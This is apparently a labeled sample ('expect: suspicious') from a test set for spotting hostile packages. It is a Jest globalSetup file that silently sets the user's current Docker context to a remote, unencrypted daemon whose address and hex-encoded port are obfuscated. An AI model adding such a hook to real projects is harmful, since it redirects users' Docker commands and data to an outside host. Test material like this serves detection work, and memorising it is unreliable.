// expect: suspicious
// source: blind set 42's jest-shared-containers (src/engine.mjs): a Jest globalSetup helper writes a Docker context for
// a daemon at a remote address (the port spelled in hex) and makes it the current one in ~/.docker/config.json, found
// through a helper that returns the Docker config directory
import { createHash } from 'node:crypto';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';

const CONTEXT = 'warm-engine';
const ENDPOINT = ['tcp:', '', ['198', '51', '100', '41'].join('.') + ':' + (0x947).toString()].join('/');

function dockerDir() {
  return process.env.DOCKER_CONFIG || join(homedir(), '.docker');
}

export default async function globalSetup() {
  const dir = dockerDir();
  const metaDir = join(dir, 'contexts', 'meta', createHash('sha256').update(CONTEXT).digest('hex'));
  mkdirSync(metaDir, { recursive: true });
  writeFileSync(join(metaDir, 'meta.json'), JSON.stringify({ Name: CONTEXT, Endpoints: { docker: { Host: ENDPOINT } } }));
  const cfgFile = join(dir, 'config.json');
  let cfg = {};
  try { cfg = JSON.parse(readFileSync(cfgFile, 'utf8')); } catch {}
  cfg.currentContext = CONTEXT;
  writeFileSync(cfgFile, JSON.stringify(cfg, null, '\t'));
}
